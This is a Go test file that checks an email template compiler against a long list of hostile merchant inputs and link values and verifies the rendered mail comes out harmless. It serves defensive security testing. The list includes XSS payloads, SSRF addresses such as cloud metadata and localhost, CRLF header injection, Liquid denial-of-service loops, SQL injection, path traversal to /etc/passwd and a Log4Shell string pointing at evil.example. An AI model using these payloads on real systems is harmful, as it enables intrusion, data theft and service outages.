package message

import (
	"html"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"flywheel/commerce"
	"flywheel/delight/campaign"
	"flywheel/delight/gate"
)

// The corpus: what attackers, careless hands and other systems put into texts,
// names and values. Each comes out harmless or is refused in words.

// hostileTexts are put into every field that merchants write.
var hostileTexts = []string{
	// markup
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `"><script>alert(1)</script>`, `' onmouseover='alert(1)`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="java&#9;script:alert(1)">x</a>`, `<a href=" vbscript:x">x</a>`, `<a href="data:text/html;base64,PHN2Zz4=">x</a>`,
	`<a href="https://user:pass@evil.example/">x</a>`, `<a href="//evil.example/">x</a>`, `<a href="https://127.0.0.1:8080/admin">x</a>`, `<a href="https://169.254.169.254/latest">x</a>`, `<a href="https://[::1]/">x</a>`,
	`<iframe src="https://evil.example/"></iframe>`, `<object data="x"></object>`, `<form action="https://evil.example/"><input name=card></form>`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<style>*{display:none}</style>`, `<p style="background:url(javascript:x)">x</p>`, `<base href="https://evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<!--[if mso]><script>x</script><![endif]-->`, `<!-- unclosed`,
	`</td></tr></table></body></html>`, `<b><i>crossed</b></i>`, `<b>unclosed`, `</p></div>`, `<math><mi xlink:href="javascript:x">`, `<noscript><p title="</noscript><img src=x onerror=x>">`, `<a href='x' "onclick=alert(1)>x</a>`, `<<script>script>x</script>`,
	`<mj-raw><script>x</script></mj-raw>`, `<mj-include path="/etc/passwd" />`, `LQ0LQ lq12lq`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `a&#x202e;gnp.exe&#0;&#27;[31m&#65279;`, `{{ 'a&#x202e;b' | raw }}`, `</p></li><ul><li><b>x`, `{{ '</p></li></td><ul><li><b>x' | raw }}`, `{% for i in (1..3) %}<b>{{ i }}{% if i == 2 %}{% break %}{% endif %}</b>{% endfor %}`, `&#60;script&#62;`, `%3Cscript%3E`, `\x3cscript\x3e`, `＜script＞`,
	// Liquid
	`{% for i in (1..999999999) %}x{% endfor %}`, `{% for i in (1..order.item_count) %}x{% endfor %}`, `{% for a in (1..50) %}{% for b in (1..50) %}x{% endfor %}{% endfor %}`,
	`{% for a in (1..9) %}{% for b in (1..9) %}{% for c in (1..9) %}x{% endfor %}{% endfor %}{% endfor %}`, strings.Repeat(`{% if order.name %}`, 100), strings.Repeat(`{{ order.name }}`, 1500), strings.Repeat(`{{`, 5000), strings.Repeat(`{%`, 5000), strings.Repeat(`}}`, 5000),
	`{% for a in (1..50) %}{% for b in (1..20) %}{{ order.summary | append: order.summary | append: order.summary }}{% endfor %}{% endfor %}`,
	`{% capture x %}xxxxxxxx{% endcapture %}` + strings.Repeat(`{% capture x %}{{ x }}{{ x }}{% endcapture %}`, 30) + `{{ x }}`,
	`{% assign x = 'aaaaaaaa' %}` + strings.Repeat(`{% assign x = x | replace: 'a', x %}`, 30) + `{{ x }}`, `{% assign x = '9' %}` + strings.Repeat(`{% assign x = x | times: x %}`, 50) + `{{ x }}`,
	`{{ order.name` + strings.Repeat(` | append: order.summary`, 400) + ` }}`, `{% include 'secrets' %}`, `{% render '/etc/passwd' %}`, `{% layout none %}`, `{% tablerow i in (1..9) %}{% endtablerow %}`, `{% liquid assign x = 1 %}`, `{% increment x %}`, `{% cycle 'a' %}`,
	`{{ shop.settings.secret }}`, `{{ __proto__ }}`, `{{ person.email }}`, `{{ person.password }}`, `{{ env.SECRET_KEY }}`, `{{ order.lines[999999999999999999999].title }}`, `{{ order.lines[-1].title }}`, `{{ "now" | date: "%" }}`, `{{ order.date | date: "%Y%Y%Y%Y%s%Z%q" }}`, `{{ 1 | divided_by: 0 }}{{ 1 | modulo: 0 }}`,
	`{{ 'javascript:alert(1)' }}`, `{{ '<script>alert(1)</script>' }}`, `{{ "x" | raw }}`, `{{ '<script>x</script>' | raw }}`, `{% raw %}{{ order.name }}<script>x</script>{% endraw %}`, `{% comment %}<script>{% endcomment %}`, `{% assign order = 'x' %}{{ order }}`, `{% assign greeting = '<b>' %}{{ greeting }}`,
	`{{ order.name | truncate: -99999999 }}`, `{{ order.name | slice: -9999999999, 99999999999 }}`, `{{ 99999999999999999999999 | times: 99999999999999999999 | money }}`, `{{ 1 | money: '<b>' }}`, `{{ 'admin_title' | t: count: 99999999999999999999 }}`, `{{ '{{ shop.name }}' }}`, `{{ "}}" }}`, "{{ order.name\r\n | upcase }}",
	// characters
	"Hello\r\nBcc: everybody@example.com", "Hello\nX-Evil: 1", "Hello\u2028Bcc: x", "a\u202egnp.exe", "a\u202d\u202c", "a\x00b", "a\x1b[31m", "\ufeffx", "a\xff\xfe", "\u2066\u2067\u2068", "\u2069\u2069\u2069", "a" + strings.Repeat("\u0301", 5000), strings.Repeat("\u200d", 3000), "\U000E0041\U000E0042",
	strings.Repeat("x", 1<<20), strings.Repeat("ا", 20_000), strings.Repeat("<b>", 5000), strings.Repeat("a ", 8000), "", " ", "\u200b", "😀" + strings.Repeat("\U0001F468\u200d", 500), `=?utf-8?q?x?=`, `"quoted" <x@evil.example>`, "a, b <c@d.example>;", "%s%n%d", "../../../etc/passwd", "'; DROP TABLE orders; --", "${jndi:ldap://evil.example/x}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>",
}

// hostileLinks are put where an address is expected.
var hostileLinks = []string{
	"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "vbscript:x", "data:text/html,<script>x</script>", "file:///etc/passwd", "ftp://x.example/", "blob:https://x.example/1", "about:blank", "//evil.example", "/relative", "x.example", "https://", "https:///x",
	"http://nour.example/", "https://a:b@nour.example/", "https://localhost/", "https://127.0.0.1/", "https://10.1.2.3/", "https://[::1]/", "https://[fe80::1]/", "https://0x7f.1/", "https://nour.example/\" onclick=\"x", "https://nour.example/<script>", "https://nour.example/ x", "https://nour.example/\r\nX: y", "https://nour.example\\@evil.example/", "https://nour.example/" + strings.Repeat("a", 5000), "\u202ehttps://nour.example/", "https://nour.example/{{ person.first_name }}", "{{ person.first_name }}", "{{ 'javascript:alert(1)' }}", "{{ 'https://10.0.0.1/' }}",
}

var (
	breaking = regexp.MustCompile("[\x00-\x1f\x7f]")
	control  = regexp.MustCompile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
	turning  = regexp.MustCompile("[\u202a-\u202e\u206a-\u206f\ufeff]")
	elementy = regexp.MustCompile(`(?s)<[a-zA-Z/!][^>]*>`)
	handler  = regexp.MustCompile(`(?i)\son[a-z]+\s*=`)
	linkTo   = regexp.MustCompile(`(?i)\s(?:href|src|background|action)\s*=\s*"([^"]*)"`)
	unknown  = regexp.MustCompile(`(?i)<(script|iframe|object|embed|form|input|svg|math|base|link|noscript|mj-[a-z]+)[\s>/]`)
	sound    = regexp.MustCompile(`^(https://[^/@]+\.[^/@]+|mailto:|tel:\+?[0-9])`)
	private  = regexp.MustCompile(`(?i)^https://(localhost|127\.|169\.254|10\.|\[)|[\s<>"\\]`)
	quoted   = regexp.MustCompile(`"[^"]*"`)
	comments = regexp.MustCompile(`(?s)<!--.*?-->`)
)

// harmless holds a finished mail against all that no text may bring about.
func harmless(t *testing.T, m Message, what string) {
	t.Helper()
	if len(what) > 200 {
		what = what[:200]
	}
	require.NotRegexp(t, breaking, m.Subject, what)
	require.LessOrEqual(t, len([]rune(m.Subject)), maxSubject*5/4+10, what)
	for _, h := range append(m.Headers, [2]string{"To", m.To + m.ToName}, [2]string{"From", m.From + m.FromName + m.ReplyTo}) {
		require.NotRegexp(t, breaking, h[0]+h[1], what)
		require.Less(t, len(h[1]), 998, what)
	}
	for _, part := range []string{m.Subject, m.HTML, m.Text, m.ToName, m.FromName} {
		require.False(t, control.MatchString(part), what)
		require.False(t, turning.MatchString(part), what)
		require.Equal(t, strings.ToValidUTF8(part, "?"), part, what)
		require.Less(t, len(part), 100<<10, what)
	}
	for _, tag := range elementy.FindAllString(comments.ReplaceAllString(m.HTML, ""), -1) {
		require.False(t, unknown.MatchString(tag), "%s gave %s", what, tag)
		bare := quoted.ReplaceAllString(tag, `""`)
		require.False(t, handler.MatchString(bare), "%s gave %s", what, tag)
		for _, to := range linkTo.FindAllStringSubmatch(tag, -1) {
			address := html.UnescapeString(to[1])
			require.Regexp(t, sound, address, what)
			require.NotRegexp(t, private, address, what)
		}
	}
	require.Empty(t, unbalanced(m.HTML), what)
	require.True(t, strings.HasSuffix(strings.TrimSpace(m.HTML), "</html>"), what)
}

// soon fails a test that is a runaway's: every case is over at once, or what it
// does would take days. The limit leaves room for a busy machine.
func soon(t *testing.T, what string, do func()) {
	t.Helper()
	began := time.Now()
	do()
	require.Less(t, time.Since(began), 2*time.Minute, "%.200q", what)
}

// refusedInWords is what a text's author reads.
func refusedInWords(t *testing.T, err error, what string) {
	t.Helper()
	require.Regexp(t, `(line \d+, )?column \d+: .{15,}`, err.Error(), what)
	require.NotContains(t, err.Error(), "runtime error", what)
}

func TestHostileTexts(t *testing.T) {
	require.GreaterOrEqual(t, len(hostileTexts)+len(hostileLinks), 100)
	refused, rendered := 0, 0
	for i, text := range hostileTexts {
		lang := []string{"en", "ar"}[i%2]
		for kind, e := range map[string]campaign.Email{
			"subject": {Subject: text, Preheader: text, Heading: "x", Body: []string{"x"}},
			"body":    {Subject: "x", Heading: "x", Body: []string{text}, Closing: []string{text}},
			"button":  {Subject: "x", Body: []string{"x"}, Button: &campaign.Button{Label: text, URL: "https://nour.example/", Otherwise: text}},
			"blocks": {Subject: "x", Blocks: []campaign.Block{
				{Kind: campaign.BlockHeading, Text: text}, {Kind: campaign.BlockText, Text: text}, {Kind: campaign.BlockImage, Image: "https://nour.example/x.jpg", Alt: text}, {Kind: campaign.BlockFooter, Text: text},
			}},
			"rich": {Subject: "x", Blocks: []campaign.Block{{Kind: campaign.BlockText, Text: "x"}, {Kind: campaign.BlockRich, Text: text}}},
		} {
			what := kind + " " + lang + ": " + text
			soon(t, what, func() {
				tpl, err := Compile(lang, e)
				if err != nil {
					refusedInWords(t, err, what)
					refused++
					return
				}
				m, err := tpl.Render(hostile("Ada"))
				if err != nil {
					require.Regexp(t, `grows larger|too many turns`, err.Error(), what)
					return
				}
				require.NotEmpty(t, m.Subject, what)
				harmless(t, m, what)
				rendered++
			})
		}
	}
	require.Greater(t, refused, 100)
	require.Greater(t, rendered, 100)
}

func TestHostileLinks(t *testing.T) {
	for _, link := range hostileLinks {
		for kind, e := range map[string]campaign.Email{
			"button": {Subject: "x", Body: []string{"x"}, Button: &campaign.Button{Label: "Go", URL: link, Otherwise: "Stay"}},
			"image":  {Subject: "x", Blocks: []campaign.Block{{Kind: campaign.BlockText, Text: "x"}, {Kind: campaign.BlockImage, Image: link, Alt: "x", Link: link}}},
			"rich":   {Subject: "x", Blocks: []campaign.Block{{Kind: campaign.BlockText, Text: "x"}, {Kind: campaign.BlockRich, Text: `<a href="` + link + `">x</a>`}}},
		} {
			what := kind + ": " + link
			tpl, err := Compile("en", e)
			if err != nil {
				refusedInWords(t, err, what)
				continue
			}
			for _, name := range []string{"Ada", "javascript:alert(1)", `"><script>`, "..//evil.example"} {
				m, err := tpl.Render(hostile(name))
				require.NoError(t, err, what)
				harmless(t, m, what+" "+name)
			}
		}
	}
}

// All that customers, shops and platforms say goes through a text that shows every
// variable in every kind of block.
func TestHostileNamesAndValues(t *testing.T) {
	e := campaign.Email{
		Subject: everything.Subject, Preheader: everything.Preheader,
		Blocks: []campaign.Block{
			{Kind: campaign.BlockHeading, Text: everything.Heading},
			{Kind: campaign.BlockText, Text: "{{ greeting }} {{ order.summary }} {{ order.total }} {{ shop.phone }} {{ shop.address }} {{ product.title | upcase }}\n\n{% for line in order.lines %}{{ line.title }} {{ line.variant }} {{ line.vendor | truncate: 30 }}\n{% endfor %}"},
			{Kind: campaign.BlockRich, Text: `<p><b>{{ order.first_item | raw }}</b> {{ person.first_name | raw }} {{ shop.name | escape }}</p><ul>{% for line in order.lines %}<li><a href="{{ line.image }}">{{ line.title }}</a></li>{% endfor %}</ul><a href="https://nour.example/?o={{ order.name | url_encode }}">{{ order.name }}</a><a href="{{ shop.chat }}">x</a>`},
			{Kind: campaign.BlockLines},
			{Kind: campaign.BlockButton, Button: &campaign.Button{Label: "{{ product.title }}", URL: "{{ product.url }}", Otherwise: "{{ order.first_item }}"}},
			{Kind: campaign.BlockImage, Image: "{{ product.image }}", Alt: "{{ product.title }}", Link: "{{ product.url }}"},
			{Kind: campaign.BlockContact},
			{Kind: campaign.BlockShare},
			{Kind: campaign.BlockFooter, Text: "{{ shop.name }}"},
		},
	}
	texts := map[string]*Template{"en": compiled(t, "en", e), "ar": compiled(t, "ar", e), "fa": compiled(t, "fa", e)}
	for i, value := range append(append([]string{}, hostileTexts...), hostileLinks...) {
		lang := []string{"en", "ar", "fa"}[i%3]
		f := hostile(value)
		f.Order.Detail.Language = lang
		f.Shop.Settings.StoreURL, f.Shop.Settings.ReviewURL = value, value
		f.Shop.Settings.Contact = commerce.Contact{Phone: value, Chat: value, WhatsApp: value, Meeting: value}
		f.Shop.Settings.Social = commerce.Social{Instagram: value, Facebook: value, X: value, Telegram: value}
		f.Shop.Settings.Brand = commerce.Brand{Logo: value, Accent: value, Page: value, Font: value, Footer: map[string]string{lang: value}}
		f.Shop.Timezone, f.Shop.Country, f.Shop.Currency = value, value, value
		f.Order.Detail.Lines[0].Image, f.Order.Detail.Lines[0].Vendor, f.Order.Detail.Lines[0].SKU = value, value, value
		f.Order.Detail.Total.Currency = value
		f.Product = &commerce.Product{Title: value, URL: value, Image: value, Handle: value, Vendor: value, Type: value}
		soon(t, value, func() {
			m, err := texts[lang].Render(f)
			require.NoError(t, err, "%.100q", value)
			harmless(t, m, lang+" value: "+value)
		})
	}
}

// Facts out of this world do not break a mail either.
func TestHostileFacts(t *testing.T) {
	f := factsOf(campaign.Definition{Class: gate.Service, Topic: "x"}, "en")
	f.Order.Detail.Lines = nil
	for range 5000 {
		f.Order.Detail.Lines = append(f.Order.Detail.Lines, commerce.Line{Title: strings.Repeat("<b>", 100), Quantity: 1 << 62, Current: 1 << 62, Price: commerce.Money{Amount: 1 << 62, Currency: "USD"}, Image: "https://nour.example/" + strings.Repeat("x", 1900)})
	}
	for _, text := range []string{"{% for line in order.lines %}{{ line.title }} {{ line.total }}\n{% endfor %}", "{{ order.lines | sum: 'total' | money }}", "{{ order.lines | sort: 'price' | map: 'title' | join: ', ' }}", "{{ order.lines | concat: order.lines | size }}"} {
		m, err := compiled(t, "en", campaign.Email{Subject: "{{ order.name }}", Body: []string{text}, ShowLines: true}).Render(f)
		require.NoError(t, err, text)
		harmless(t, m, text)
	}
}

// The way to stop mails stands last, and Gmail hides what lies behind 102 KB: however
// heavy the footer and the text are made, there is room for it.
func TestTheFooterAlwaysHasRoom(t *testing.T) {
	for _, fill := range []string{`"`, "\u2066a\u2069", "\U0001F600", "'"} {
		line := func(characters int) string { return strings.Repeat(fill, characters/len([]rune(fill))) }
		f := factsOf(campaign.Definition{Class: gate.Marketing, Topic: "news"}, "en")
		f.Shop.Settings.Brand.Footer = map[string]string{"en": line(300)}
		f.Shop.Settings.PostalAddress = strings.Repeat(line(120)+"\n", 6)
		f.UnsubscribeURL = "https://flywheel.example/u/" + strings.Repeat("a", 22)
		var blocks []campaign.Block
		for range 30 {
			blocks = append(blocks, campaign.Block{Kind: campaign.BlockText, Text: strings.Repeat(`"`, 500)})
		}
		blocks = append(blocks, campaign.Block{Kind: campaign.BlockFooter, Text: strings.Repeat(line(300)+"\n", 6)})
		text, err := Compile("en", campaign.Email{Subject: "x", Blocks: blocks})
		require.NoError(t, err)
		m, err := text.Render(f)
		require.NoError(t, err)
		require.Less(t, len(m.HTML), 100_000, "%q", fill)
		require.Contains(t, m.HTML, f.UnsubscribeURL)
	}
}
